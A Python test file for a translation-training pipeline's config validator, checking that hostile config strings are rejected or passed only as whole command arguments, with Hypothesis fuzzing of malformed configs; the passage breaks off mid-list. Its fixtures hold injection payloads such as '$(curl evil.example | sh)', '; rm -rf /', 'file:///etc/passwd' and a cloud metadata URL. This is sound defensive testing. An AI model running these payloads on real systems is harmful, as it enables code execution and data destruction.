"""Hostile strings in the training config never reach a shell, and never break the plan.

(a) Strings with shell metacharacters, quotes, braces, whitespace and non-ASCII either fail with a
ConfigError, or reach the generated graph only as whole argv elements of the docker-worker
`command` list (equal to the config value, or a URL built from it), never split or formatted. No
task runs a shell with config values in its script.

(b) Property-based: random continuation configs (random inputs, modes, URL counts, alias
spellings, garbage keys and values) either raise ConfigError or give a plan in which every edge
points at a task in the plan and fetches only artifacts its producer declares. Uses the fast
`build_plan` path, not whole-graph generation.

(c) Property-based, hostile shapes: configs of any shape (non-string and mixed-type keys, dates,
binary, sets, tuples, nan, huge numbers, NUL, lone surrogates, control characters, strings over
8 KiB and 128 KiB, credential, signed and private-host URLs, values ending in a newline, recursive
structures, alias bombs, deep nesting, a training config that is a list or a scalar) end in one
ConfigError line (at most 300 characters, printable, no secret) or in a plan; never in another
exception (a traceback) or a hang. A smaller set of random configs is generated as whole graphs,
and every task must validate against the Taskcluster schemas (as in test_taskcluster_schemas.py).

By default the properties run a small derandomized profile (a few hundred examples, seconds). The
campaign runs N random examples per property (N/100 whole graphs) and prints the counts:

    HOSTILE_CAMPAIGN=10000 .venv/bin/pytest -p no:cacheprovider -s tests/test_hostile_input.py -k random

An example still running after HANG_SECONDS is counted as a hang (a liveness check, not a speed
test); the campaign also reports how many took over 2 seconds.
"""

import collections
import copy
import json
import os
import signal
import time
import traceback

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from translations_taskgraph.continuation import MODEL_RULES
from translations_taskgraph.pipeline import build_plan
from translations_taskgraph.training_config import (
    CORPUS_NAMES,
    MESSAGE_LIMIT,
    MODEL_ALIASES,
    MODES,
    ConfigError,
    _config_urls,
    load_training_config,
    normalize_url,
    private_host,
    show_value,
)

from conftest import KINDS_DIR, flag, PARAMS_DIR, command, complete, generate, load_params_file, plan

SHELLS = {"sh", "bash", "dash", "zsh", "ksh"}


def _commands(graph):
    """{label: payload command} of every task that has one."""
    return {
        label: task.task["payload"]["command"]
        for label, task in graph.tasks.items()
        if "command" in task.task.get("payload", {})
    }


def _string_leaves(node):
    if isinstance(node, dict):
        for key, value in node.items():
            yield str(key)
            yield from _string_leaves(value)
    elif isinstance(node, list):
        for value in node:
            yield from _string_leaves(value)
    elif isinstance(node, str):
        yield node


# ------------------------------------------------------------------------------------------------
# (a) Hostile strings that are rejected.
HOSTILE_REJECTED_URLS = {
    "space": "https://example.com/a b",
    "tab": "https://example.com/a\tb",
    "newline": "https://example.com/a\nhttps://evil.example/b",
    "carriage-return": "https://example.com/a\rb",
    "nul": "https://example.com/a\x00b",
    "non-ascii": "https://example.com/модель",
    "non-ascii-host": "https://exämple.com/a",
    "command-substitution-alone": "$(curl evil.example | sh)",
    "backticks-alone": "`id`",
    "semicolon-prefix": ";https://example.com/a",
    "quoted": "'https://example.com/a'",
    "braces-alone": "{task_id}",
    "file-scheme": "file:///etc/passwd",
    "shell-scheme": "sh://example.com/a",
    "no-host": "https:///path",
    "unbalanced-bracket": "https://[example.com/a",
}


@pytest.mark.parametrize(
    "slot",
    ["vocab", "corpus", "model-url", "model-urls"],
)
@pytest.mark.parametrize("url", list(HOSTILE_REJECTED_URLS.values()), ids=list(HOSTILE_REJECTED_URLS))
def test_hostile_urls_are_rejected(url, slot):
    good = "https://example.com/good"
    config = {
        "vocab": {"continuation": {"vocab": {"src": url, "trg": good}}},
        "corpus": {"continuation": {"corpora": {"parallel": {"src": good, "trg": url}}}},
        "model-url": {"continuation": {"models": {"backwards": {"url": url, "mode": "use"}}}},
        "model-urls": {"continuation": {"models": {"teacher": {"urls": [good, url], "mode": "use"}}}},
    }[slot]
    with pytest.raises(ConfigError) as error:
        load_training_config(config)
    if "\x00" in url:
        assert "contains a NUL character" in str(error.value)  # no config string may hold one
        return
    assert "expected" in str(error.value)
    assert "URL" in str(error.value) or "gs://" in str(error.value)


HOSTILE_DATASETS = {
    "semicolon": "opus_ada83/v1;rm -rf /",
    "command-substitution": "opus_$(id)",
    "backticks": "opus_`id`",
    "single-quote": "opus_'a'",
    "double-quote": 'opus_"a"',
    "space": "opus_ada 83",
    "braces": "opus_{task_id}",
    "format-index": "opus_{0}",
    "newline": "opus_ada83\nrm",
    "non-ascii-space": "opus_adä b",
    "pipe": "opus_a|b",
    "ampersand": "opus_a&b",
    "dollar": "opus_$HOME",
    "leading-dash": "-rf",
    "empty": "",
}


@pytest.mark.parametrize("category", ["train", "devtest", "mono-src"])
@pytest.mark.parametrize("name", list(HOSTILE_DATASETS.values()), ids=list(HOSTILE_DATASETS))
def test_hostile_dataset_names_are_rejected(name, category):
    with pytest.raises(ConfigError) as error:
        load_training_config({"datasets": {category: [name]}})
    assert f"datasets.{category}.0" in str(error.value)
    assert "expected a dataset name" in str(error.value)


@pytest.mark.parametrize(
    "config, path",
    [
        ({"experiment": {"src": "ru;id"}}, "experiment.src"),
        ({"experiment": {"trg": "$(id)"}}, "experiment.trg"),
        ({"experiment": {"src": "{src}"}}, "experiment.src"),
        ({"experiment": {"teacher-mode": "two-stage; id"}}, "experiment.teacher-mode"),
        ({"experiment": {"best-model": "chrf`id`"}}, "experiment.best-model"),
        ({"taskcluster": {"worker-classes": {"default": "gcp-spot $(id)"}}}, "taskcluster.worker-classes.default"),
        ({"continuation": {"vocab": {"src": "https://e.com/a", "trg": "https://e.com/b",
                                     "sha256": {"vocab.ru.spm": "$(id)"}}}}, "continuation.vocab.sha256.vocab.ru.spm"),
        ({"marian-args": {"training-teacher": {"after": {"$(id)": 1}}}}, "marian-args.training-teacher.after"),
    ],
    ids=["src", "trg", "src-braces", "teacher-mode", "best-model", "worker-class", "sha256", "marian-nested"],
)
def test_other_hostile_values_are_rejected(config, path):
    with pytest.raises(ConfigError) as error:
        load_training_config(config)
    assert f"at {path}:" in str(error.value)


# ------------------------------------------------------------------------------------------------
# (a) Hostile strings that are accepted: whole argv elements, never split or formatted.
HOSTILE_URL_SUFFIXES = [
    "{task_id}",
    "{}",
    "{0}",
    "{src}{fetch[pretrained]}",
    "a;id;b",
    "$(id)",
    "`id`",
    "'single'",
    '"double"',
    "x|y&z>w<v",
    "${HOME}",
    "a\\b",
    "!1*?x=[abc]",
    "%24%28id%29",
    "--output-dir=%2Fetc",
    "{{x}}}",
]


def _slots(suffix_for):
    """Two continuation configs with one URL per slot: (config, {slot: url})."""
    urls = {}

    def url(slot, scheme="https://example.com"):
        urls[slot] = f"{scheme}/slot-{len(urls):02d}{suffix_for(len(urls))}"
        return urls[slot]

    first = {
        "experiment": {"teacher-ensemble": 2},
        "continuation": {
            "vocab": {"src": url("vocab-src"), "trg": url("vocab-trg")},
            "corpora": {
                "parallel": {
                    "src": url("parallel-src"), "trg": url("parallel-trg"), "tok-src": url("parallel-tok-src"),
                    "tok-trg": url("parallel-tok-trg"), "alignments": url("parallel-alignments"),
                },
                "backtranslations": {"src": url("bt-src"), "trg": url("bt-trg")},
            },
            "models": {
                "backwards": {"url": url("backwards", "gs://bucket"), "mode": "use"},
                "teachers": {"urls": [url("teacher-1"), url("teacher-2")], "mode": "continue"},
            },
        },
    }
    second = {
        "continuation": {
            "corpora": {"parallel": {"src": url("parallel-only-src"), "trg": url("parallel-only-trg")}},
            "models": {
                "teacher": {"urls": [url("use-teacher")], "mode": "use"},
                "train-student": {"url": url("init-student"), "mode": "init"},
            },
        },
    }
    third = {
        "continuation": {
            "vocab": {"src": url("vocab-src-3"), "trg": url("vocab-trg-3")},
            "corpora": {
                "distillation": {
                    "src": url("distillation-src"), "trg": url("distillation-trg"),
                    "tok-src": url("distillation-tok-src"), "tok-trg": url("distillation-tok-trg"),
                    "alignments": url("distillation-alignments"),
                },
            },
            "models": {"student": {"url": url("continue-student"), "mode": "continue"}},
        },
    }
    return [first, second, third], urls


def _hostile_pairs():
    hostile_configs, hostile = _slots(lambda n: "/" + HOSTILE_URL_SUFFIXES[n % len(HOSTILE_URL_SUFFIXES)])
    benign_configs, benign = _slots(lambda n: "")
    return list(zip(hostile_configs, benign_configs)), hostile, benign


def _substitute(element, replacements):
    for old, new in replacements:
        element = element.replace(old, new)
    return element


@pytest.mark.parametrize(
    "index", [0, 1, 2], ids=["vocab-corpora-backwards-teacher", "parallel-teacher-student", "vocab-distillation-student"]
)
def test_hostile_urls_are_whole_argv_elements(index):
    pairs, hostile, benign = _hostile_pairs()
    hostile_config, benign_config = pairs[index]
    for url in _string_leaves(hostile_config):
        if url.startswith(("https://", "gs://")):
            normalize_url(url)  # accepted as it is
    hostile_graph = generate(hostile_config)
    benign_graph = generate(benign_config)
    assert set(hostile_graph.tasks) == set(benign_graph.tasks)

    # The canonical (gs:// rewritten) URL of each slot, benign -> hostile. Fixed-width slot
    # numbers: no benign URL is a prefix of another.
    replacements = [(normalize_url(benign[slot]), normalize_url(hostile[slot])) for slot in hostile]
    used = set()
    hostile_commands, benign_commands = _commands(hostile_graph), _commands(benign_graph)
    assert set(hostile_commands) == set(benign_commands)
    for label, benign_command in benign_commands.items():
        expected = [_substitute(element, replacements) for element in benign_command]
        assert hostile_commands[label] == expected, label
        for element in hostile_commands[label]:
            for _old, new in replacements:
                if new in element:
                    used.add(new)
                    # The URL itself, or a URL built from it (model directory + artifact name).
                    assert element == new or element.startswith(new.rstrip("/") + "/"), (label, element)

    in_config = {normalize_url(u) for u in _string_leaves(hostile_config) if u.startswith(("https://", "gs://"))}
    assert in_config and used == in_config

    # Outside the command the URLs appear nowhere in a task definition.
    for label, task in hostile_graph.tasks.items():
        definition = copy.deepcopy(task.task)
        definition.get("payload", {}).pop("command", None)
        assert "slot-" not in json.dumps(definition), label


def test_doc_url_with_braces_is_kept_verbatim():
    graph = generate(load_params_file("doc-continuation-models"))
    url = "https://firefox-ci-tc.services.mozilla.com/api/queue/v1/task/{task_id}/artifacts/public/build"
    argv = command(graph, "continuation-model-teacher-ru-en-1")
    assert argv[argv.index("--vocab-dir") + 1] == url
    assert f"{url}/model.npz" in argv


HOSTILE_VALUES = {
    "experiment": {"name": "ci; $(id) `id` '\"{task_id}\" \n ä"},
    "datasets": {
        "train": ["opus_ada83/v1", "mtdata_a:b[1]/c"],
        "devtest": ["flores_dev", "sacrebleu_wmt19"],
    },
    "marian-args": {
        "training-teacher": {
            "after": "$(id);`id`'\"{src}{task_id}",
            "valid-metrics": "chrf ce-mean-words",
        },
    },
    "continuation": {
        "vocab": {
            "src": "https://example.com/vocab.ru.spm",
            "trg": "https://example.com/vocab.en.spm",
            "sha256": {"vocab.ru.spm": "a" * 64},
        },
    },
    "taskcluster": {"upload-bucket": "bucket; $(id)"},
}


def test_hostile_values_in_other_strings():
    # A complete config (it lists datasets): the CI example written out, with the hostile values.
    config = load_training_config(complete(HOSTILE_VALUES))
    graph = generate(complete(HOSTILE_VALUES))
    commands = _commands(graph)
    everything = json.dumps({label: task.task for label, task in graph.tasks.items()})

    # The experiment name (training tasks) and the upload bucket (export) reach tasks only as whole
    # argv elements; nowhere else in any task definition.
    name = config["experiment"]["name"]
    assert flag(commands["train-teacher-model-ru-en-1"], "--experiment") == name
    assert flag(commands["export-ru-en"], "--upload-bucket") == "bucket; $(id)"
    for label, argv in commands.items():
        for element in argv:
            assert element in (name, "bucket; $(id)") or ("$(id) `id`" not in element and "bucket;" not in element)
    assert everything.count("bucket; $(id)") == 1

    # Dataset names: whole --dataset values; labels and file names are sanitised.
    dataset_values = {
        argv[i + 1] for argv in commands.values() for i, element in enumerate(argv[:-1]) if element == "--dataset"
    }
    assert "mtdata_a:b[1]/c" in dataset_values
    assert dataset_values <= set(config["datasets"]["train"]) | set(config["datasets"]["devtest"]) | set(
        config["datasets"]["test"]
    ) | set(config["datasets"]["mono-src"]) | set(config["datasets"]["mono-trg"])
    for label in graph.tasks:
        assert all(ch.isalnum() or ch in "-_/" for ch in label), label  # "/": chunk n/total
    assert "dataset-mtdata-a_b_1_c-ru-en" in graph.tasks

    # Marian arguments: whole elements after the key; whitespace separates values by design
    # (multi-value Marian options such as `valid-metrics`), without any shell.
    argv = command(graph, "train-teacher-model-ru-en-1")
    marian = argv[argv.index("--", 1) + 1:] if argv.count("--") else []
    assert marian[marian.index("--after") + 1] == "$(id);`id`'\"{src}{task_id}"
    i = marian.index("--valid-metrics")
    assert marian[i + 1 : i + 3] == ["chrf", "ce-mean-words"]

    # Pins: whole elements.
    download = command(graph, "continuation-vocab-ru-en")
    i = download.index("--pin")
    assert download[i + 1 : i + 3] == ["vocab.ru.spm", "a" * 64]


# ------------------------------------------------------------------------------------------------
# (a) No shell anywhere.
GRAPH_CONFIGS = ["default"] + sorted(path.stem for path in PARAMS_DIR.glob("*.yml"))


def _graph_config(name):
    return {} if name == "default" else load_params_file(name)


@pytest.mark.parametrize("name", GRAPH_CONFIGS)
def test_no_task_runs_config_values_through_a_shell(name):
    raw = _graph_config(name)
    config = load_training_config(raw)
    values = {value for value in _string_leaves(config) if len(value) >= 3}
    values |= {value for value in _string_leaves(raw) if len(value) >= 3}
    graph = generate(raw)
    commands = _commands(graph)
    assert commands
    for label, argv in commands.items():
        assert isinstance(argv, list), label
        assert all(isinstance(element, str) for element in argv), label
        for i, element in enumerate(argv):
            if element == "-c":
                assert i == 0 or os.path.basename(argv[i - 1]) not in SHELLS, (label, argv)
                for later in argv[i + 1 :]:
                    assert not any(value in later for value in values), (label, later)
        # run-task, then our script run by python3 from the checkout.
        assert argv[0] == "/usr/local/bin/run-task", label
        step = argv[argv.index("--") + 1 :]
        assert step[0] == "python3" and step[1].startswith("pipeline/") and step[1].endswith(".py"), label
        assert not any(os.path.basename(element) in SHELLS for element in step), label


# Continuation inputs of the documented configs that nothing in the graph uses: pruned, with their
# download task. (The recipe uses the teacher, so the backtranslations that train it are unused.)
UNUSED_INPUTS = {"recipe-distillation-and-student": {"continuation-corpus-backtranslations-ru-en"}}


@pytest.mark.parametrize("name", GRAPH_CONFIGS)
def test_config_urls_are_whole_elements(name):
    raw = _graph_config(name)
    planned = plan(raw)
    pruned = {label for label, why in planned.removed.items() if label.startswith("continuation-")}
    assert pruned == UNUSED_INPUTS.get(name, set())
    elements = {element for argv in _commands(generate(raw)).values() for element in argv}
    downloads = planned.by_kind("continuation")
    for task in downloads:
        for url in task.continuation["urls"]:
            assert url in elements, (task.label, url)
    used = {url for task in downloads for url in task.continuation["urls"]}
    config = load_training_config(raw)
    for url in (v for v in _string_leaves(config.get("continuation", {})) if v.startswith("http")):
        assert url in used or pruned, url


# ------------------------------------------------------------------------------------------------
# (b) Property-based: random continuation configs.
GOOD_URLS = [
    "https://example.com/a",
    "https://example.com/models/teacher/",
    "https://example.com/{task_id}/artifacts",
    "https://example.com/a;b$(id)`x`'\"",
    "http://example.com:8080/x?y=1&z=2",
    "https://example.com/c.zst?X-Signature=SECRETQUERY",  # signed: a file URL only
    "gs://bucket/models/ru-en/backwards",
]
# Secrets are spelled SECRET...: no error message may contain one, no plan a credential.
PRIVATE_URLS = [
    "http://127.0.0.1:8000/a",
    "http://[::1]/a",
    "http://169.254.169.254/computeMetadata/v1",
    "http://taskcluster/api/queue/v1/task/A/artifacts/public/build",
    "http://localhost/a",
    "https://10.0.0.7/a",
    "http://0x7f.1/a",
    "http://intranet/a",
]
BAD_URLS = ["", "ftp://example.com/a", "models/teacher", "https://example.com/a b", "https://exämple.com", "gs://b",
            "https://user:SECRETPW@example.com/a", "gs://user:SECRETPW@bucket/a", "ftp://SECRETPW@example.com/a",
            "https://example.com/a\n", "https://example.com/a\x00"]


def _rarely(draw, percent=5):
    """True `percent` times in a hundred: most drawn configs stay valid, some break one rule."""
    return draw(st.integers(min_value=1, max_value=100)) <= percent


@st.composite
def _url(draw):
    if _rarely(draw, 1):
        return draw(st.sampled_from(BAD_URLS))
    if _rarely(draw, 1):
        return draw(st.sampled_from(PRIVATE_URLS))
    if _rarely(draw, 1):
        return "https://example.com/" + draw(st.text(max_size=8))
    url = draw(st.sampled_from(GOOD_URLS))
    return url.rstrip("/") + "/m1" if draw(st.booleans()) else url


JSON_SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-5, max_value=20),
    st.floats(allow_nan=False, allow_infinity=False, width=32),
    st.text(max_size=10),
)
GARBAGE = st.recursive(
    JSON_SCALARS,
    lambda children: st.one_of(st.lists(children, max_size=3), st.dictionaries(st.text(max_size=8), children, max_size=3)),
    max_leaves=6,
)
SHA = "0123456789abcdef" * 4
SPELLINGS = {name: sorted(alias for alias, canonical in MODEL_ALIASES.items() if canonical == name) for name in MODEL_RULES}


@st.composite
def models(draw, ensemble):
    result = {}
    for name in draw(st.lists(st.sampled_from(sorted(SPELLINGS)), max_size=3, unique=True)):
        spelling = draw(st.sampled_from(SPELLINGS[name]))
        mode = draw(st.sampled_from(MODES))
        if _rarely(draw, 3):
            mode = draw(st.one_of(st.sampled_from(["resume", "Use", ""]), GARBAGE))
        if name != "teacher":
            count = 1
        elif mode == "use":
            count = draw(st.integers(min_value=1, max_value=4))
        else:
            count = draw(st.sampled_from([1, ensemble]))
        if _rarely(draw, 3):
            count = draw(st.integers(min_value=0, max_value=5))
        urls = [draw(_url()) for _ in range(count)]
        model = {"mode": mode}
        form = draw(st.sampled_from(["url", "urls", "urls-string"]) if count == 1 else st.just("urls"))
        if form == "url":
            model["url"] = urls[0]
        elif form == "urls-string":
            model["urls"] = urls[0]
        else:
            model["urls"] = urls
        if _rarely(draw, 2):
            model[draw(st.sampled_from(["url", "urls"]))] = draw(_url())  # both, or a string for urls
        if _rarely(draw, 2):
            model.pop("url", None), model.pop("urls", None)
        if draw(st.booleans()):
            model["type"] = "opusmt" if _rarely(draw, 3) else "default"
        for key in ("reset-stalled", "restore-corpus"):
            if mode == "continue" and draw(st.booleans()) or _rarely(draw, 2):
                model[key] = draw(st.booleans())
        if _rarely(draw, 10):
            model["sha256"] = {"model.npz": SHA if not _rarely(draw, 20) else "abc"}
        result[spelling] = model
    if _rarely(draw, 4):
        # A second spelling of a model, or an unknown one.
        result[draw(st.sampled_from(sorted(MODEL_ALIASES) + ["teachr", "opusmt"]))] = {"url": GOOD_URLS[0], "mode": "use"}
    return result


@st.composite
def corpora(draw):
    result = {}
    for name in draw(st.lists(st.sampled_from(CORPUS_NAMES), max_size=3, unique=True)):
        corpus = {"src": draw(_url()), "trg": draw(_url())}
        if _rarely(draw, 2):
            del corpus[draw(st.sampled_from(["src", "trg"]))]
        if draw(st.booleans()):
            corpus.update({key: draw(_url()) for key in ("tok-src", "tok-trg", "alignments")})
            if _rarely(draw, 4):
                del corpus[draw(st.sampled_from(["tok-src", "tok-trg", "alignments"]))]
        elif _rarely(draw, 3):
            corpus[draw(st.sampled_from(["tok-src", "tok-trg", "alignments"]))] = draw(_url())
        result[name] = corpus
    if _rarely(draw, 3):
        result["paralel"] = {"src": GOOD_URLS[0], "trg": GOOD_URLS[0]}
    return result


@st.composite
def continuation_configs(draw, garbage=False):
    ensemble = draw(st.integers(min_value=1, max_value=4))
    continuation = {}
    if draw(st.booleans()):
        vocab = {"src": draw(_url()), "trg": draw(_url())}
        if _rarely(draw, 3):
            del vocab["trg"]
        if _rarely(draw, 10):
            vocab["sha256"] = {"vocab.ru.spm": SHA}
        continuation["vocab"] = vocab
    if draw(st.integers(0, 3)):
        continuation["models"] = draw(models(ensemble))
    if draw(st.booleans()):
        continuation["corpora"] = draw(corpora())
    config = {"continuation": continuation, "experiment": {"teacher-ensemble": ensemble}}
    if _rarely(draw, 10):
        legacy = {"train-backwards": {"urls": [draw(_url())], "mode": draw(st.sampled_from(MODES))}}
        if draw(st.booleans()):
            config["pretrained-models"] = legacy
        else:
            config["experiment"]["pretrained-models"] = legacy
    if draw(st.booleans()):
        config["taskcluster"] = {"split-chunks": draw(st.integers(min_value=1, max_value=3))}
    if _rarely(draw, 10):
        config["allow-private-urls"] = draw(st.sampled_from([True, False, "yes"]))
    if draw(st.booleans()):
        config["target-stage"] = draw(
            st.sampled_from(["all-pipeline", "train-teacher-model", "distillation-student-model-train", "export"])
        )
    if garbage:
        for _ in range(draw(st.integers(min_value=1, max_value=3))):
            _inject_garbage(draw, config)
    return config


def _inject_garbage(draw, config):
    """Add a random key, or replace a random value, somewhere in the config."""
    parents = []

    def walk(node):
        if isinstance(node, dict):
            parents.append(node)
            for value in node.values():
                walk(value)

    walk(config)
    parent = draw(st.sampled_from(parents))
    if parent and draw(st.booleans()):
        key = draw(st.sampled_from(sorted(parent)))
    else:
        key = draw(st.one_of(st.text(max_size=8), st.sampled_from(["url", "urls", "mode", "models", "vocab", "src"])))
    parent[key] = draw(GARBAGE)


def _check_clean_error(error):
    """One line: the config error's message, short, printable, without a secret."""
    message = str(error)
    assert message.startswith("Invalid training_config at "), message
    assert len(message) <= MESSAGE_LIMIT, len(message)
    assert message.isprintable(), message
    assert "SECRET" not in message, message


def _check_plan(config):
    try:
        result = build_plan(config, KINDS_DIR)  # as given: conftest's plan() copies it and reads [] as {}
    except ConfigError as error:
        _check_clean_error(error)
        return None
    # No credential is ever accepted; no private host unless the config allows them.
    assert "SECRETPW" not in json.dumps(result.config), show_value(config)
    if not result.config.get("allow-private-urls"):
        for path, url in _config_urls(result.config):
            assert not private_host(normalize_url(url)), (path, url)
    tasks = result.tasks
    for task in tasks.values():
        for name, edge in task.upstreams.items():
            assert edge.label in tasks, (task.label, name, edge.label)
            missing = set(edge.artifacts) - set(tasks[edge.label].artifacts)
            assert not missing, (task.label, name, edge.label, missing)
    continuation = result.config.get("continuation", {})
    for name, model in continuation.get("models", {}).items():
        trained = [task for task in tasks.values() if task.kind == MODEL_RULES[name].kind]
        if model["mode"] == "use":
            assert not trained, (name, [t.label for t in trained])
        else:
            for task in trained:
                assert tasks[task.upstreams["pretrained"].label].kind == "continuation", task.label
    if "vocab" in continuation:
        assert not result.by_kind("build-vocab")
    # Every URL a download publishes from is one of its argv elements.
    for task in result.by_kind("continuation"):
        assert set(task.continuation["urls"]) <= set(task.extra_args), task.label
    return result


# ------------------------------------------------------------------------------------------------
# How many examples: the quick derandomized profile, or HOSTILE_CAMPAIGN=N random ones.
CAMPAIGN = int(os.environ.get("HOSTILE_CAMPAIGN") or 0)
HANG_SECONDS = 30
SLOW_SECONDS = 2

PROPERTY_SETTINGS = dict(
    deadline=None,
    database=None,
    derandomize=not CAMPAIGN,
    suppress_health_check=list(HealthCheck),
)


class _Hang(BaseException):
    """Raised by the watchdog (a BaseException: no `except Exception` in the code swallows it)."""


class Outcomes:
    """Counts of what the examples of one property ended in; tracebacks and hangs by signature."""

    def __init__(self, name):
        self.name = name
        self.counts = collections.Counter()
        self.failures = {}  # signature -> a shortened example
        self.slowest = 0.0
        self.slowest_example = None

    def run(self, check, config):
        def expired(signum, frame):
            raise _Hang()

        previous = signal.signal(signal.SIGALRM, expired)
        signal.alarm(HANG_SECONDS)
        start = time.monotonic()
        try:
            outcome = check(config)
        except _Hang:
            outcome = "hang"
            self.failures.setdefault(f"hang (over {HANG_SECONDS} s)", show_value(config))
        except AssertionError:
            raise  # a property is violated: hypothesis shrinks the example
        except Exception as error:  # noqa: BLE001 (counting every unexpected exception is the point)
            outcome = "traceback"
            frame = traceback.extract_tb(error.__traceback__)[-1]
            signature = f"{type(error).__name__} at {os.path.basename(frame.filename)}:{frame.lineno}"
            self.failures.setdefault(signature, show_value(config))
        finally:
            signal.alarm(0)
            signal.signal(signal.SIGALRM, previous)
        elapsed = time.monotonic() - start
        if elapsed > self.slowest:
            self.slowest, self.slowest_example = elapsed, show_value(config)
        if elapsed > SLOW_SECONDS and outcome != "hang":
            self.counts[f"over {SLOW_SECONDS} s"] += 1
        self.counts[outcome] += 1

    def summary(self):
        examples = sum(self.counts[k] for k in ("planned", "rejected", "traceback", "hang"))
        counts = ", ".join(f"{key} {value}" for key, value in sorted(self.counts.items()))
        return f"{self.name}: {examples} examples: {counts}; slowest {self.slowest:.2f} s ({self.slowest_example})"

    def check(self):
        print(self.summary())
        assert not self.failures, self.summary() + "\n" + "\n".join(
            f"  {signature}: {example}" for signature, example in self.failures.items())


def _planned_or_rejected(config):
    return "planned" if _check_plan(config) is not None else "rejected"


def _run_property(strategy, quick, check=_planned_or_rejected, name="property", build=None, share=1):
    """Check `quick` examples (HOSTILE_CAMPAIGN/share in a campaign); return the counts by outcome.

    `build` turns a drawn example into the config checked: structures hypothesis should never
    print (recursive ones, alias bombs) are built there from a small drawn recipe."""
    outcomes = Outcomes(name)

    @settings(max_examples=max(1, CAMPAIGN // share) if CAMPAIGN else quick, **PROPERTY_SETTINGS)
    @given(strategy)
    def run(example):
        outcomes.run(check, build(example) if build else example)

    run()
    outcomes.check()
    return outcomes.counts


def _scaled(count):
    """A lower bound on an outcome's count, for the quick profile's numbers or a campaign's."""
    return count * CAMPAIGN // QUICK if CAMPAIGN else count


QUICK = 300


def test_random_continuation_configs():
    outcomes = _run_property(continuation_configs(), QUICK, name="continuation configs")
    # Both outcomes are well represented: the strategy is not all-error, nor all-valid.
    assert outcomes["planned"] >= _scaled(60), outcomes
    assert outcomes["rejected"] >= _scaled(40), outcomes


def test_random_configs_with_garbage():
    outcomes = _run_property(continuation_configs(garbage=True), QUICK // 2, name="configs with garbage")
    assert outcomes["rejected"] >= _scaled(40), outcomes


# ------------------------------------------------------------------------------------------------
# (c) Hostile shapes.
HOSTILE_STRINGS = [
    "ru\n", "en\r\n", "opus_ada83/v1\n", "a" * 64 + "\n", "A" * 22 + "\n", "train-teacher-model\n",
    "\x00", "ru\x00", "\ud800", "ok\udfff", "\x1b[31mred\x1b[0m", "\u202egnp.exe", "line\nERROR - forged", "\x7f\x85\u2028",
    "x" * 8193, "y" * (128 * 1024 + 1), "a://" * 50_000, "https://" + "a" * 300_000,
    *BAD_URLS, *PRIVATE_URLS, "https://example.com/a?token=SECRETQUERY",
]
HOSTILE_SCALARS = st.one_of(
    st.sampled_from(HOSTILE_STRINGS),
    st.dates(),
    st.datetimes(),
    st.binary(max_size=4),
    st.sets(st.integers(0, 3), max_size=2),
    st.tuples(st.integers(0, 3), st.text(max_size=2)),
    st.floats(),  # nan and infinities included
    st.sampled_from([2**63 + 1, -(2**64), 10**5000, float("nan"), float("-inf")]),
    st.text(alphabet=st.characters(codec=None, exclude_categories=()), max_size=12),  # surrogates too
)
HOSTILE_KEYS = st.one_of(
    st.text(max_size=8),
    st.integers(-3, 3),
    st.none(),
    st.booleans(),
    st.floats(allow_nan=False, width=16),
    st.tuples(st.integers(0, 3)),
    st.sampled_from(["\x1b[31m", "k" * 10_000, "a\x00", "\ud800", "src\n", "after\n", "experiment", "continuation",
                     "datasets", "allow-private-urls", "marian-args", "training-teacher", "name", "src", "url"]),
)
HOSTILE_NODES = st.one_of(
    HOSTILE_SCALARS,
    GARBAGE,
    st.lists(HOSTILE_SCALARS, max_size=3),
    st.dictionaries(HOSTILE_KEYS, HOSTILE_SCALARS, max_size=3),
)
# Structures hypothesis must never print: drawn as recipes, built by `_build_hostile`.
STRUCTURES = st.one_of(
    st.tuples(st.just("itself"), st.sampled_from(["list", "mapping"])),
    st.tuples(st.just("laughs"), st.integers(2, 9)),
    st.tuples(st.just("nested"), st.sampled_from([30, 33, 200, 20_000])),
    st.tuples(st.just("shared"), st.integers(1, 4)),
)


@st.composite
def hostile_configs(draw):
    """(config, [(path of a mapping, key, recipe)]): a config, and structures to put into it."""
    if _rarely(draw, 8):
        # A training config that is not a mapping at all.
        return draw(st.one_of(st.lists(GARBAGE, max_size=2), JSON_SCALARS, HOSTILE_SCALARS)), []
    config = draw(continuation_configs())
    if _rarely(draw, 30):
        config["experiment"].update({"name": "hostile", "src": draw(st.sampled_from(["ru", "ru\n", "en"])), "trg": "en"})
        config["datasets"] = {category: draw(st.lists(st.sampled_from(
            ["opus_ada83/v1", "flores_dev", "url_http://127.0.0.1/x/[LANG].zst", "url_https://example.com/[LANG].zst",
             "opus_x\n", "sacrebleu_wmt19"]), max_size=2)) for category in ("train", "devtest", "test", "mono-src", "mono-trg")}
    structures = []
    for _ in range(draw(st.integers(1, 3))):
        path = draw(st.sampled_from(_mapping_paths(config)))
        parent = _at(config, path)
        if parent and draw(st.booleans()):
            key = draw(st.sampled_from(sorted(parent, key=str)))
        else:
            key = draw(HOSTILE_KEYS)
        if _rarely(draw, 15):
            structures.append((path, key, draw(STRUCTURES)))
        else:
            parent[key] = draw(HOSTILE_NODES)
    return config, structures


def _mapping_paths(node, path=()):
    paths = [path] if isinstance(node, dict) else []
    if isinstance(node, dict):
        for key, value in node.items():
            paths += _mapping_paths(value, (*path, key))
    return paths


def _at(node, path):
    for key in path:
        node = node[key]
    return node


def _build_hostile(example):
    config, structures = example
    for path, key, (kind, size) in structures:
        try:
            parent = _at(config, path)
        except (KeyError, TypeError):
            continue  # a later change replaced a mapping on the way
        if not isinstance(parent, dict):
            continue
        if kind == "itself":
            value = [] if size == "list" else {}
            value.append(value) if size == "list" else value.update(me=value)
        elif kind == "laughs":
            value = ["lol"] * 10
            for _ in range(size):
                value = [value] * 10
        elif kind == "nested":
            value = "deep"
            for _ in range(size):
                value = [value]
        else:  # the same mapping under several keys (YAML anchors used as intended)
            value = {"src": "https://example.com/a", "trg": "https://example.com/b"}
            for index in range(size):
                parent[f"{key}-{index}" if isinstance(key, str) else index] = value
        parent[key] = value
    return config


def test_random_hostile_shapes():
    outcomes = _run_property(hostile_configs(), QUICK, name="hostile shapes", build=_build_hostile)
    assert outcomes["rejected"] >= _scaled(150), outcomes


# ------------------------------------------------------------------------------------------------
# (c) Whole graphs of random configs are accepted by Taskcluster.
GRAPH_DATASETS = [
    "opus_ada83/v1", "flores_dev", "sacrebleu_wmt19", "mtdata_Statmt-news_commentary_wmt18-13-rus-eng",
    "url_https://example.com/corpus/[LANG].zst", "opus_" + "long" * 2000 + "/v1", "news-crawl_news.2021",
